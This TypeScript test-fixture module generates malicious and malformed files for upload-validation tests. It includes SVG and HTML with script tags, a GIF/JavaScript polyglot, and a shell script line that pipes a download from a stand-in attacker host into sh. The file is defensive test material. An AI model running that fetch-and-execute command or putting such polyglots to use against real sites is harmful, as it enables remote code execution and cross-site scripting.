import { randomBytes } from 'node:crypto';
import { noisePng, solid } from '@starmatch/test-support/test-images';

// The upload tests' hostile and oversized files, made in code like every image they send
// (@starmatch/test-support/test-images); nothing binary is checked in.

/** An uncompressed PNG of noise just over 6 MB. */
export function sixMegabytePng(): Promise<Buffer> {
  return noisePng(1500, 1400);
}

export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await solid(800, 600).jpeg().toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length / 2));
}

/** Starts like a JPEG (so the magic number passes) and is noise after that. */
export function jpegMagicThenNoise(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(4096)]);
}

export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(1)</script><rect width="64" height="64"/></svg>',
);
export const HTML = Buffer.from(
  '<!doctype html><html><body><script>alert(1)</script></body></html>',
);
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n',
);
/** A ZIP local file header and a stored file: enough for any sniffer to call it a ZIP. */
export const ZIP = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  Buffer.alloc(12),
  Buffer.from([5, 0, 0, 0]),
  Buffer.from('a.txthello'),
]);
/** A GIF header followed by script: a polyglot a browser sniffing content could run. */
export const GIF_POLYGLOT = Buffer.from('GIF89a/*\x00\x00*/=1;alert(document.domain);//');
export const TEXT = Buffer.from('This is not a picture, whatever the Content-Type says.\n');
